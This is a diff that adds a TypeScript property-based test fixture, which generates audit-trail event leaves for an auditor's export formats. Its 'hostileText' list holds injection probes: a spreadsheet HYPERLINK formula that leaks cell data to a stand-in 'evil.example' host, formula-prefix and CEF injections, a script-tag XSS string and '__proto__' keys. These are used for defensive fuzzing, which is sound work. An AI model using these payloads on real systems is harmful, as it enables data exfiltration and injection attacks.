@@ -1,0 +1,74 @@
+import fc from 'fast-check'
+import { type ExportedLeaf, exportedLeaf } from '../../../services/auditor/export-formats/index.ts'
+import { leafOf } from '../../../services/auditor/leaves/index.ts'
+import { encodeEvent } from '../../../shared/events/codec.ts'
+import { eventExamples } from '../../../shared/events/examples.ts'
+import { upcast } from '../../../shared/events/upcast.ts'
+import { anyText } from '../fakes/any-text.ts'
+import { source } from '../fakes/builders.ts'
+import { host, logId } from './drawn-trail.ts'
+
+const place = { log: `${host}/${logId}/3`, life: logId, partition: 3, index: 2 ** 40 }
+
+/** The leaf of each type and version of event, as it comes out of a trail. */
+export const exampleLeaves: readonly ExportedLeaf[] = eventExamples.map(({ id, at, stored }) => {
+  const request = '4bf92f3577b34da6a3ce929d0e0e4736'
+  const encoded = encodeEvent(source, { id, at, event: upcast(stored), request })
+  const { key, headers, value } = encoded
+  const raw = { topic: 'auth.events', partition: 3, offset: place.index, key, headers, value }
+  return exportedLeaf(place, leafOf(logId, raw as Parameters<typeof leafOf>[1]).bytes)
+})
+
+/** What tools of others trip over. */
+const hostileText = fc.constantFrom(
+  '',
+  "'",
+  '=HYPERLINK("http://evil.example?"&A1,"x")',
+  '+1',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1',
+  '＝1',
+  '"quoted", and, commas',
+  'one\r\ntwo\nthree\rfour',
+  'CEF:0|a|b\\=c|d=e f=g\\',
+  '\u2028\u2029\u0085\u000b\u000c\u001c',
+  '<script>alert(1)</script>',
+  '𐏿𝄞😀',
+  '\ud800',
+  'tail\udfff',
+  '\u0000',
+  'x'.repeat(20_000),
+  '__proto__',
+)
+const text = fc.oneof(hostileText, anyText(), fc.string({ unit: 'binary' }))
+const member = fc.oneof(text, fc.integer(), fc.constant(null), fc.boolean(), fc.array(text))
+
+const dataNames = [
+  ...['sub', 'sid', 'jti', 'client', 'address', 'agent', 'reason', 'username', 'account'],
+  ...['key', 'path', 'code', 'actor', 'scope', 'cause', 'kind', '__proto__'],
+] as const
+const eventNames = [
+  ...['id', 'type', 'source', 'subject', 'time', 'dataschema', 'actor', 'request', 'data_base64'],
+] as const
+
+const drawnMembers = (names: readonly string[]) =>
+  fc.dictionary(fc.constantFrom(...names), member, { maxKeys: 6, noNullPrototype: true })
+
+/** An event as it should be, with members that whoever may write to the topic chose. */
+export const drawnLeaf: fc.Arbitrary<ExportedLeaf> = fc
+  .record({
+    example: fc.constantFrom(...exampleLeaves),
+    attributes: fc.oneof(fc.constant({}), drawnMembers(eventNames)),
+    data: fc.oneof(drawnMembers(dataNames), member),
+    isOwn: fc.boolean(),
+  })
+  .map(({ example, attributes, data, isOwn }) => {
+    const { event } = example
+    const isObject = typeof data === 'object' && data !== null && !Array.isArray(data)
+    const drawn = isObject && isOwn ? { ...(event['data'] as object), ...data } : data
+    return exportedLeaf(
+      place,
+      Buffer.from(JSON.stringify({ ...event, ...attributes, data: drawn })),
+    )
+  })
